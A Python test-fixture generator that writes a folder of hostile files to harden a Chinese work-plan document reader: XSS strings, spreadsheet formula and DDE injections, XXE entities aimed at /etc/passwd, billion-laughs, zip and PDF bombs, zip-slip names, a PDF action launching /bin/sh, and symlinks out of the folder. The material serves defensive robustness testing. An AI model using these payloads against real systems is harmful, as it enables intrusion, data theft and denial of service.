"""Write a folder of nasty files: everything that a reader of strangers' files should survive.

usage: python scripts/make_nasty.py FOLDER [--full]

Each file goes through `miner report` in `tests/hardening/test_nasty.py` and has to come out as a plan or as a row
of `problems`. `--full` writes the sizes that a test cannot afford: one line of 50 MB, ten million headings.
"""

from __future__ import annotations

import io
import json
import os
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterator
from itertools import islice
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from nasty_attacks import attacks
from nasty_forms import mutants

__all__ = ["CANARY", "make_nasty", "nasty_files"]

File = tuple[str, bytes]
CANARY = "canary-of-a-file-nobody-named"
"""Stands in the file outside of the folder that links and external entities point at."""
HOST = "http://nasty.invalid"
"""Where remote references lead: a name that never resolves."""
PLAN = (
    "溪口镇2025年工作计划\n一、工作目标\n全年培训农民2000人次以上，新修道路15公里，新增就业不低于300人。\n"
    "二、主要措施\n（一）加强领导。每月调度一次，6月底前完成中期检查。\n（二）落实经费。投入资金120万元左右。\n"
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

SCRIPTS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=2</script>",
    "<img src=x onerror=window.pwned=3>",
    f'<img src="{HOST}/pixel.png">',
    '"><svg onload=window.pwned=4>',
    "' onmouseover='window.pwned=5",
    "<iframe srcdoc='<script>parent.pwned=6</script>'></iframe>",
    "<a href=javascript:window.pwned=7>x</a>",
    "<style>@import url(" + HOST + "/x.css);</style>",
    f"<link rel=stylesheet href={HOST}/y.css>",
    "<math><mtext><style><img src=x onerror=window.pwned=8></style></mtext></math>",
    "<!--><img src=x onerror=window.pwned=9>-->",
    "]]><script>window.pwned=10</script>",
    "{{constructor.constructor('window.pwned=11')()}}",
    "{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "${window.pwned=12}",
    "\u2028window.pwned=13\u2029",
    "<meta http-equiv=refresh content='0;url=" + HOST + "'>",
    "<base href=" + HOST + ">",
    "&lt;script&gt;window.pwned=14&lt;/script&gt;",
    "&#60;script&#62;window.pwned=15&#60;/script&#62;",
    "＜script＞window.pwned=16＜/script＞",
    "\\u003cscript\\u003ewindow.pwned=17\\u003c/script\\u003e",
    '","x":[],"__proto__":{"pwned":18},"y":"',
    "<svg><use href='" + HOST + "/s.svg#x'/></svg>",
    "<object data=" + HOST + "></object>",
    "<video src=" + HOST + " autoplay></video>",
    "<form action=" + HOST + "><button autofocus onfocus=window.pwned=19>",
    "<details open ontoggle=window.pwned=20>",
    "<p style=\"background:url('" + HOST + "/b.png')\">",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("' + HOST + '","点击")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '"=1+1"',
    "'=1+1",
    '=IMPORTXML("' + HOST + '","//a")',
    '=WEBSERVICE("' + HOST + '")',
    "{=1+1}",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
    '{ INCLUDEPICTURE "' + HOST + '/x.png" }',
)
MARKDOWN = (
    "![x](" + HOST + "/x.png)",
    "[x](javascript:window.pwned=21)",
    "<" + HOST + ">",
    "| a | b |\n| --- | --- |\n| `x | y` | \\| |",
    "```\n未关的代码",
    "[x]: " + HOST,
    "# 一\n" * 50,
    '---\ntitle: !!python/object/apply:os.system ["true"]\n---\n',
    "---\ntitle: [\n---\n",
    "***" * 400,
    "[" * 2000,
    "> " * 1500,
)
PIECES = (
    "。", "，", "一、", "（一）", "1.", "1、", "第一章", "百", "万", "负", "百分之", "、三", "不", "不低于", "至", "-", "—", "…",
    "\n", "\r", "\r\n", "\u3000", "\u200b", "\u0301", "(", "（", "）", "“", "\"", "'", "《", "*", "#", "|", "&", "&amp;", "<",
    "<p>", "!", "?", ".", ",", "0", "9", "9,", "9.", "2024年", "篇1", "XX", "(yè)", "業", "工作计划", "附件：", "目录……1\n",
    "加强领导，明确分工，确保各项任务落实到位。", "\u202e", "\ufeff", "\ufffd", "\U00020000", "\U0001f468\u200d\U0001f469",
)  # fmt: skip


def docx(body: str, prolog: str = "", parts: dict[str, bytes] | None = None) -> bytes:
    """A Word file with this body; further or other parts by their full names."""
    document = f'{prolog}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
    types = (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/></Types>'
    )
    relations = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{R}/officeDocument" '
        f'Target="word/document.xml"/></Relationships>'
    )
    made = {"[Content_Types].xml": types.encode(), "_rels/.rels": relations.encode()}
    made["word/document.xml"] = document.encode("utf-8", "surrogatepass")
    return zipped({**made, **(parts or {})})


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The members as an archive, their names as they are."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return buffer.getvalue()


def paragraphs(text: str) -> str:
    """Word's XML of some lines of harmless text."""
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.split("\n"))


def pdf(content: str, extra: str = "", trailer: str = "") -> bytes:
    """A PDF of one page in Helvetica; `extra` is put into the catalogue."""
    stream = content.encode("latin-1")
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{extra}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        f"<</Length {len(stream)}>>stream\n{stream.decode('latin-1')}\nendstream",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    out, places = b"%PDF-1.7\n", []
    for number, made in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj{made}endobj\n".encode("latin-1")
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"xref\n0 6\n0000000000 65535 f \n{table}trailer<</Size 6/Root 1 0 R{trailer}>>\nstartxref\n{len(out)}\n%%EOF"
    return out + end.encode("latin-1")


LINE = "BT /F 12 Tf 50 700 Td (Work plan 2025: train 2000 people, build 15 km of road.) Tj ET"
ENCRYPTED = "/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<" + "41" * 32 + ">/U<" + "42" * 32 + ">>>/ID[<43><43>]"


def encoded() -> Iterator[File]:
    """Encodings: right, mixed, cut in the middle of a character, with bytes that no encoding explains."""
    for name in (
        "utf-8",
        "utf-8-sig",
        "gb18030",
        "gbk",
        "big5",
        "utf-16",
        "utf-16-le",
        "utf-16-be",
        "utf-32",
    ):
        data = PLAN.encode(name, "ignore")
        yield f"enc-{name}.txt", data
        yield f"enc-{name}-cut.txt", data[:-1]
        yield f"enc-{name}-nul.txt", data[:60] + b"\0\0\0" + data[60:]
        yield f"enc-{name}-junk.txt", data[:61] + bytes(range(128, 256)) + data[61:]
    a, b, c = (PLAN.encode(e, "ignore") for e in ("utf-8", "gb18030", "big5"))
    yield "mixed-two.txt", a + b
    yield "mixed-three.txt", a + b + c
    yield (
        "mixed-lines.txt",
        b"\n".join(x + b"\n" + y for x, y in zip(a.split(b"\n"), b.split(b"\n"), strict=True)),
    )
    yield "surrogates-wtf8.txt", PLAN.encode() + b"\xed\xa0\x80\xed\xb0\x80 \xed\xbf\xbf\n"
    yield "overlong.txt", PLAN.encode() + b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf\n"
    yield "beyond-unicode.txt", PLAN.encode() + b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80\n"
    yield "utf16-half-pairs.txt", b"\xff\xfe" + PLAN.encode("utf-16-le") + b"\x00\xd8\x00\xd8\x00\xdc"
    yield "utf32-out-of-range.txt", b"\xff\xfe\0\0" + PLAN.encode("utf-32-le") + b"\xff\xff\xff\x7f"
    yield "utf7.txt", PLAN.encode("utf-7")
    yield "double-mark.txt", b"\xef\xbb\xbf\xef\xbb\xbf" + a
    for mark, name in (
        (b"\xef\xbb\xbf", "8"),
        (b"\xff\xfe", "16le"),
        (b"\xfe\xff", "16be"),
        (b"\xff\xfe\0\0", "32"),
    ):
        yield f"only-mark-{name}.txt", mark


def empty() -> Iterator[File]:
    """Nothing, blanks, NUL bytes, under every ending that is read."""
    for ending in (
        "txt",
        "md",
        "html",
        "docx",
        "pdf",
        "csv",
        "tsv",
        "jsonl",
        "xlsx",
        "parquet",
        "zip",
        "doc",
        "wps",
        "rtf",
    ):
        yield f"empty.{ending}", b""
        yield f"junk.{ending}", bytes(random.Random(ending).randrange(256) for _ in range(500))
    yield "blank.txt", " \t\r\n\u3000\u00a0\u200b\n".encode() * 9
    yield "nul.txt", b"\0" * 4000
    yield "nul-between.txt", "\0".join(PLAN).encode()
    yield "no-ending", PLAN.encode()
    yield "unknown.xyz", PLAN.encode()
    yield "text-as.docx", PLAN.encode()
    yield "text-as.pdf", PLAN.encode()
    yield "pdf-as.txt", pdf(LINE)
    yield "docx-as.txt", docx(paragraphs(PLAN))
    yield "html-as.txt", f"<html><body><p>{PLAN}</p></body></html>".encode()
    yield "picture-as.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8


def word() -> Iterator[File]:
    """Word files: cut off, encrypted, with entities, bombs, remote parts, fields, deep nesting."""
    good = docx(paragraphs(PLAN))
    for share in (1, 5, 20, 50, 80, 95, 99):
        yield f"docx-cut-{share}.docx", good[: len(good) * share // 100]
    rng = random.Random(1)
    for i in range(12):
        broken = bytearray(good)
        for _ in range(12):
            broken[rng.randrange(len(broken))] = rng.randrange(256)
        yield f"docx-flipped-{i}.docx", bytes(broken)
    yield (
        "docx-encrypted.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") * 3,
    )
    yield "docx-no-document.docx", zipped({"word/other.xml": b"<a/>"})
    yield "docx-not-xml.docx", docx("", parts={"word/document.xml": b"plain text"})
    yield "docx-no-body.docx", docx("", parts={"word/document.xml": b"<x/>"})
    yield "docx-empty-body.docx", docx("")
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    bomb = f'<!DOCTYPE x [<!ENTITY l0 "哈">{laughs}]>'
    yield "docx-billion-laughs.docx", docx("<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>" + paragraphs(PLAN), bomb)
    flat = f'<!DOCTYPE x [<!ENTITY q "{"哈" * 100_000}">]>'
    yield (
        "docx-quadratic.docx",
        docx(f"<w:p><w:r><w:t>{'&q;' * 2000}</w:t></w:r></w:p>{paragraphs(PLAN)}", flat),
    )
    for name, address in (
        ("file", "../outside.txt"), ("absolute", "/etc/passwd"), ("http", HOST + "/e.txt"), ("php", "php://filter/x"),
    ):  # fmt: skip
        entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>'
        yield (
            f"docx-entity-{name}.docx",
            docx("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>" + paragraphs(PLAN), entity),
        )
        yield f"docx-dtd-{name}.docx", docx(paragraphs(PLAN), f'<!DOCTYPE x SYSTEM "{address}">')
        parameter = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}"> %p;]>'
        yield f"docx-parameter-{name}.docx", docx(paragraphs(PLAN), parameter)
    remote = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="t" Type="{R}/attachedTemplate" '
        f'Target="{HOST}/t.dotm" TargetMode="External"/><Relationship Id="i" Type="{R}/image" '
        f'Target="{HOST}/i.png" TargetMode="External"/></Relationships>'
    ).encode()
    yield "docx-remote.docx", docx(paragraphs(PLAN), parts={"word/_rels/document.xml.rels": remote})
    include = '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="../outside.txt" parse="text"/>'
    yield "docx-xinclude.docx", docx(f"<w:p><w:r><w:t>{include}</w:t></w:r></w:p>" + paragraphs(PLAN))
    field = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:t>x</w:t></w:r>'
    for i, code in enumerate(
        (f"INCLUDETEXT {HOST}", "DDEAUTO cmd", "HYPERLINK javascript:x", "INCLUDEPICTURE x")
    ):
        yield f"docx-field-{i}.docx", docx(f"<w:p>{field.format(code)}</w:p>" + paragraphs(PLAN))
    chain = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{i}"><w:basedOn w:val="s{i + 1}"/></w:style>'
        for i in range(5000)
    )
    styles = f'<w:styles xmlns:w="{W}">{chain}</w:styles>'.encode()
    yield "docx-styles-chain.docx", docx(paragraphs(PLAN), parts={"word/styles.xml": styles})
    loop = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{i}"><w:basedOn w:val="s{(i + 1) % 3}"/></w:style>'
        for i in range(3)
    )
    styles = f'<w:styles xmlns:w="{W}">{loop}</w:styles>'.encode()
    yield "docx-styles-loop.docx", docx(paragraphs(PLAN), parts={"word/styles.xml": styles})
    for depth in (200, 2000, 100_000):
        yield (
            f"docx-tables-{depth}.docx",
            docx(
                "<w:tbl><w:tr><w:tc>" * depth
                + paragraphs("计划")
                + "</w:tc></w:tr></w:tbl>" * depth
                + paragraphs(PLAN)
            ),
        )
        yield (
            f"docx-controls-{depth}.docx",
            docx("<w:sdt><w:sdtContent>" * depth + paragraphs(PLAN) + "</w:sdtContent></w:sdt>" * depth),
        )
        yield (
            f"docx-runs-{depth}.docx",
            docx(f"<w:p>{'<w:ins>' * depth}<w:r><w:t>x</w:t></w:r>{'</w:ins>' * depth}</w:p>"),
        )
    span = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{}"/></w:tcPr><w:p/></w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl>'
    for i, value in enumerate(("1000000000", "-5", "x", "99999999999999999999", "٣")):
        yield f"docx-span-{i}.docx", docx(span.format(value) + paragraphs(PLAN))
    level = '<w:p><w:pPr><w:outlineLvl w:val="{}"/></w:pPr><w:r><w:t>一、目标</w:t></w:r></w:p>'
    for i, value in enumerate(("-1", "999999999", "x", "")):
        yield f"docx-level-{i}.docx", docx(level.format(value) + paragraphs(PLAN))
    yield "docx-bomb.docx", docx("", parts={"word/document.xml": b" " * 60_000_000})
    yield "docx-many-parts.docx", docx(paragraphs(PLAN), parts={f"word/x{i}.xml": b"" for i in range(3000)})
    yield "docx-controls-chars.docx", docx(paragraphs(PLAN + "&#1;&#xFFFE;"))


def portable() -> Iterator[File]:
    """PDF: cut off, encrypted, loops of pages, scripts, lies about lengths."""
    good = pdf(LINE)
    yield "pdf-good.pdf", good
    for share in (1, 10, 30, 50, 70, 90, 99):
        yield f"pdf-cut-{share}.pdf", good[: len(good) * share // 100]
    rng = random.Random(2)
    for i in range(12):
        broken = bytearray(good)
        for _ in range(10):
            broken[rng.randrange(len(broken))] = rng.randrange(256)
        yield f"pdf-flipped-{i}.pdf", bytes(broken)
    yield "pdf-encrypted.pdf", pdf(LINE, trailer=ENCRYPTED)
    yield "pdf-script.pdf", pdf(LINE, f"/OpenAction<</S/JavaScript/JS(app.launchURL\\('{HOST}'\\))>>")
    yield "pdf-launch.pdf", pdf(LINE, "/OpenAction<</S/Launch/F(/bin/sh)>>")
    yield "pdf-uri.pdf", pdf(LINE, f"/OpenAction<</S/URI/URI({HOST})>>")
    yield "pdf-pages-loop.pdf", pdf(LINE).replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")
    yield "pdf-many-pages.pdf", pdf(LINE).replace(b"/Count 1", b"/Count 2147483647")
    yield "pdf-no-text.pdf", pdf("0 0 m 9 9 l S")
    yield "pdf-nested-arrays.pdf", pdf(LINE, "/X" + "[" * 20_000 + "]" * 20_000)
    yield "pdf-stack.pdf", pdf("q " * 50_000 + LINE)
    packed = zlib.compress(b"0 0 m " * 5_000_000)
    bomb = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    bomb += b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
    bomb += (
        b"4 0 obj<</Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream endobj\n"
    )
    yield "pdf-bomb.pdf", bomb + b"trailer<</Root 1 0 R>>"


def pages() -> Iterator[File]:
    """HTML: scripts, remote references, broken and deep markup, wrong declarations."""
    body = "".join(f"<p>{line}</p>" for line in PLAN.split("\n"))
    for i, code in enumerate(SCRIPTS):
        yield (
            f"html-code-{i:02}.html",
            f"<html><head><title>{code}</title></head><body>{code}{body}</body></html>".encode(),
        )
    yield (
        "html-remote.html",
        (
            f'<html><head><base href="{HOST}"><link rel=stylesheet href="/a.css"><script src="/a.js"></script></head>'
            f'<body background="{HOST}/b.png"><img src="/c.png" srcset="/d.png 2x"><iframe src="/e"></iframe>{body}'
        ).encode(),
    )
    for depth in (300, 5000, 100_000):
        yield f"html-deep-{depth}.html", ("<div>" * depth + body + "</div>" * depth).encode()
        yield f"html-lists-{depth}.html", ("<ul><li>" * depth + body).encode()
        yield (
            f"html-spans-{depth}.html",
            ("<p>" + "<b>" * depth + "一、目标" + "</b>" * depth + body).encode(),
        )
    yield "html-tables.html", ("<table><tr><td>" * 600 + body).encode()
    yield "html-open.html", ("<p" * 5000 + body).encode()
    yield "html-comment.html", ("<!--" + body * 20).encode()
    yield "html-attributes.html", ("<p " + "a=1 " * 50_000 + ">" + body).encode()
    yield "html-entities.html", ("<p>" + "&amp;amp;" * 20_000 + body).encode()
    yield "html-entity.html", f'<!DOCTYPE x [<!ENTITY e SYSTEM "../outside.txt">]><p>&e;</p>{body}'.encode()
    for name in (
        "utf-7",
        "utf-8",
        "no-such-encoding",
        "base64",
        "zlib",
        "rot13",
        "idna",
        "unicode_escape",
        "undefined",
    ):
        yield f"html-charset-{name}.html", f'<meta charset="{name}">{body}'.encode()
    yield "html-frames.html", f"<frameset><frame src={HOST}></frameset>".encode()
    yield (
        "html-xml.xhtml",
        f'<?xml version="1.0" encoding="gbk"?><html><body>{body}</body></html>'.encode("gbk"),
    )
    yield "html-nul.html", f"<ht\0ml><bo\0dy>{body}</body>".encode()


def archives() -> Iterator[File]:
    """Archives: names that climb out, links, bombs, nests, lies about sizes, passwords."""
    names = (
        "../outside-made.txt", "../../../../tmp/outside-made.txt", "/tmp/outside-made.txt", "..\\..\\outside-made.txt",
        "C:\\outside-made.txt", "a/../../b.txt", "con.txt", "a\nb.txt", "a\x1b[31mb.txt", "\u202etxt.exe.txt", " .txt",
        "<img src=x onerror=window.pwned=30>.txt", "=1+1.txt", "x" * 3000 + ".txt", "a//b///c.txt", "%2e%2e%2fd.txt",
    )  # fmt: skip
    for i, name in enumerate(names):
        yield f"zip-name-{i:02}.zip", zipped({name: PLAN.encode()})
    yield (
        "zip-same-names.zip",
        zipped({"a.txt": PLAN.encode(), "A.txt": PLAN.encode(), "a.txt ": PLAN.encode()}),
    )
    link = zipfile.ZipInfo("link.txt")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(link, "../outside.txt")
    yield "zip-link.zip", buffer.getvalue()
    yield "zip-bomb.zip", zipped({"bomb.txt": b"0" * 80_000_000})
    inner = zipped({"a.txt": PLAN.encode()})
    for depth in range(1, 6):
        inner = zipped({f"nest-{depth}.zip": inner})
        yield f"zip-nest-{depth}.zip", inner
    good = zipped({"a.txt": PLAN.encode() * 40, "b.docx": docx(paragraphs(PLAN))})
    for share in (1, 30, 60, 90, 99):
        yield f"zip-cut-{share}.zip", good[: len(good) * share // 100]
    rng = random.Random(3)
    for i in range(8):
        broken = bytearray(good)
        for _ in range(8):
            broken[rng.randrange(len(broken))] = rng.randrange(256)
        yield f"zip-flipped-{i}.zip", bytes(broken)
    place = good.rindex(b"PK\x01\x02")
    lies = bytearray(good)
    lies[place + 24 : place + 28] = struct.pack("<I", 1)
    yield "zip-lies.zip", bytes(lies)
    locked = bytearray(zipped({"a.txt": PLAN.encode()}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(mark) + offset] |= 1
    yield "zip-password.zip", bytes(locked)
    odd = bytearray(zipped({"a.txt": PLAN.encode()}))
    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        odd[odd.index(mark) + offset] = 99
    yield "zip-method.zip", bytes(odd)
    yield "zip-empty.zip", zipped({})
    yield "zip-many.zip", zipped({f"{i}.xyz": b"x" for i in range(300)})
    yield "zip-folders.zip", zipped({"a/": b"", "b/c/": b""})
    yield "zip-litter.zip", zipped({"__MACOSX/._a.txt": b"x", ".DS_Store": b"x"})


def tables() -> Iterator[File]:
    """Tables: formulas, ragged rows, wrong quotes, huge numbers, other columns of the same name."""
    long = PLAN.replace("\n", " ")
    for i, formula in enumerate(FORMULAS):
        cell = formula.replace('"', '""')
        yield f"csv-formula-{i:02}.csv", f'编号,标题,正文\n"{cell}","{cell}","{cell} {long}"\n'.encode()
    yield "csv-ragged.csv", f"a,b\n{long}\n{long},x,y,z\n,\n".encode()
    yield "csv-quote.csv", f'标题,正文\n甲,"{long}\n'.encode()
    yield "csv-nul.csv", f"标题,正文\n甲\0,{long}\n".encode()
    yield "csv-header-only.csv", "标题,正文\n".encode()
    yield "csv-same-columns.csv", f"正文,正文\n{long},{long}\n".encode()
    yield "csv-no-text.csv", b"a,b\n1,2\n3,4\n"
    yield (
        "csv-wide.csv",
        (",".join(f"c{i}" for i in range(5000)) + "\n" + ",".join(["x"] * 4999 + [long])).encode(),
    )
    yield "tsv-carriage.tsv", f"标题\t正文\r甲\t{long}\r".encode()
    for i, line in enumerate(
        (
            "{", "[]", "null", '"text"', "{}", '{"text": 1e999}', '{"text": null}', '{"text": {"a": [1]}}',
            '{"text": "' + "\\ud800" * 9 + json.dumps(long)[1:-1] + '"}', '{"text": ' + "9" * 5000 + "}",
            '{"text": "' + long + '", "text": "' + long + '"}', '{"id": "../../x", "text": "' + long + '"}',
            '{"id": "<script>window.pwned=40</script>", "text": "' + long + '"}', '{"__proto__": {"x": 1}, "text": "' + long + '"}',
        )
    ):  # fmt: skip
        yield f"json-{i:02}.jsonl", line.encode()
    yield "json-deep.jsonl", ('{"text": ' + "[" * 100_000 + "]" * 100_000 + "}").encode()
    yield "json-objects.jsonl", ('{"a":' * 50_000 + "1" + "}" * 50_000).encode()
    yield "xlsx-bomb.xlsx", zipped({"xl/workbook.xml": b" " * 60_000_000})
    yield (
        "xlsx-entity.xlsx",
        zipped(
            {"xl/workbook.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "../outside.txt">]><workbook>&e;</workbook>'}
        ),
    )
    yield "xlsx-not.xlsx", zipped({"a": b"b"})
    yield "parquet-cut.parquet", b"PAR1" + b"\0" * 40 + b"PAR1"
    yield "parquet-length.parquet", b"PAR1" + b"\xff\xff\xff\x7f" + b"PAR1"


def texts(full: bool) -> Iterator[File]:
    """Text: code for every output, marks that hide or turn, repetition, one long line, very many headings."""
    for i, code in enumerate((*SCRIPTS, *FORMULAS)):
        lines = f"{code}\n一、{code}\n全年培训{code}2000人次以上。\n{PLAN}"
        yield f"code-{i:02}.txt", lines.encode("utf-8", "surrogatepass")
    for i, code in enumerate(MARKDOWN):
        yield f"markdown-{i:02}.md", f"{code}\n{PLAN}".encode()
    yield "bidi.txt", "".join(f"\u202e{c}\u2066\u202d" for c in PLAN).encode()
    yield "controls.txt", "".join(f"{c}{chr(i % 32)}" for i, c in enumerate(PLAN)).encode()
    yield "escapes.txt", "".join(f"\x1b[3{i % 8}m{c}\x1b]0;title\x07" for i, c in enumerate(PLAN)).encode()
    yield "combining.txt", (PLAN + "\u0301" * 5000 + PLAN).encode()
    yield "private.txt", (PLAN + "".join(map(chr, range(0xE000, 0xE400)))).encode()
    yield (
        "planes.txt",
        (PLAN + "".join(chr(0x10000 * p + i) for p in range(1, 17) for i in range(40))).encode(),
    )
    yield "noncharacters.txt", (PLAN + "\ufffe\uffff\ufdd0\U0010ffff").encode()
    for i, piece in enumerate(PIECES):
        yield f"repeat-{i:02}.txt", (piece * (6000 // len(piece))).encode()
    rng = random.Random(4)
    for i in range(12):
        yield f"soup-{i:02}.txt", "".join(rng.choice(PIECES) for _ in range(1500)).encode()
    size = 50_000_000 if full else 300_000
    sentence = "全年培训农民2000人次以上，新修道路15公里，"
    yield "one-line.txt", (sentence * (size // len(sentence.encode()))).encode()
    yield "one-line-plain.txt", b"a" * size
    yield "one-number.txt", b"9" * (size // 10)
    count = 10_000_000 if full else 5_000
    yield "headings.txt", b"".join(f"{i}、目标\n".encode() for i in range(1, count + 1))
    yield "headings-same.txt", "一、目标\n".encode() * count
    yield "brackets.txt", ("（" * 100_000 + PLAN + "）" * 100_000).encode()
    levels = ("第{}章", "{}、", "（{}）")
    yield (
        "nest.txt",
        "\n".join(
            form.format("一二三四五六七八九十"[i % 10]) for i in range(900) for form in levels
        ).encode(),
    )
    dots = ".".join(["1"] * 3000)
    yield "dots.txt", f"{dots} 目标\n{PLAN}".encode()
    for i in range(20):
        yield f"same-{i:02}.txt", PLAN.encode()


NAMES = (
    "control-\x01\x02\x1b[31m.txt", "newline-\n-in-name.txt", "tab-\t.txt", "<script>window.pwned=50<／script>.txt",
    "\u202efdp.txt", "=1+1.txt", "-rf.txt", "%2e%2e.txt", "'\"`$(true)`.txt", "name with  blanks .txt", "..txt",
    "名" * 80 + ".txt", "a.txt.txt", "{{7*7}}.txt", "#fragment?query=1&x=2.txt", "\ufeffmark.txt", "e\u0301.txt", "\u00e9.txt",
    "UPPER.TXT", "con.txt", "__proto__.txt", "constructor.txt", "~tilde.txt", "[a-z]*.txt",
)  # fmt: skip


def nasty_files(full: bool = False) -> Iterator[File]:
    """Name and bytes of every regular file."""
    for kind in (encoded, empty, word, portable, pages, archives, tables):
        yield from kind()
    yield from texts(full)
    for name in NAMES:
        yield f"names/{name}", PLAN.encode()
    yield from mutants()
    yield from attacks()


def make_nasty(folder: Path, full: bool = False, every: int = 1) -> list[Path]:
    """Write the files into `folder` (made anew) and return the paths of all entries, links included.

    Of the regular files `every` says which are written: each (1), each second one (2) …
    """
    folder.mkdir(parents=True)
    made = []
    for name, data in islice(nasty_files(full), 0, None, every):
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
        made.append(path)
    raw = [
        os.fsencode(folder / "names") + b"/" + n
        for n in ("工作计划.txt".encode("gbk"), b"\xff\xfe-bytes.txt")
    ]
    for name in raw:
        try:
            Path(os.fsdecode(name)).write_bytes(PLAN.encode())
        except OSError:  # a file system that takes UTF-8 only
            continue
        made.append(Path(os.fsdecode(name)))
    outside = folder.parent / "outside.txt"
    outside.write_text(f"{CANARY}\n{PLAN}", encoding="utf-8")
    links = folder / "links"
    links.mkdir()
    targets = {
        "out.txt": outside, "absolute.txt": Path("/etc/passwd"), "out-folder": folder.parent, "loop": links,
        "dangling.txt": links / "nothing", "self.txt": links / "self.txt", "inside.txt": folder / "same-00.txt",
        "device.txt": Path("/dev/zero"),
    }  # fmt: skip
    for name, target in targets.items():
        (links / name).symlink_to(target)
        made.append(links / name)
    os.mkfifo(links / "pipe.txt")
    made.append(links / "pipe.txt")
    deep = folder
    for i in range(60):
        deep = deep / f"d{i}"
    deep.mkdir(parents=True)
    (deep / "deep.txt").write_text(PLAN, encoding="utf-8")
    made.append(deep / "deep.txt")
    for hidden in (".hidden.txt", "~$lock.docx"):
        (folder / hidden).write_text(PLAN, encoding="utf-8")
        made.append(folder / hidden)
    return made


if __name__ == "__main__":
    entries = make_nasty(Path(sys.argv[1]), "--full" in sys.argv[2:])
    print(f"{len(entries)} entries in {sys.argv[1]}")
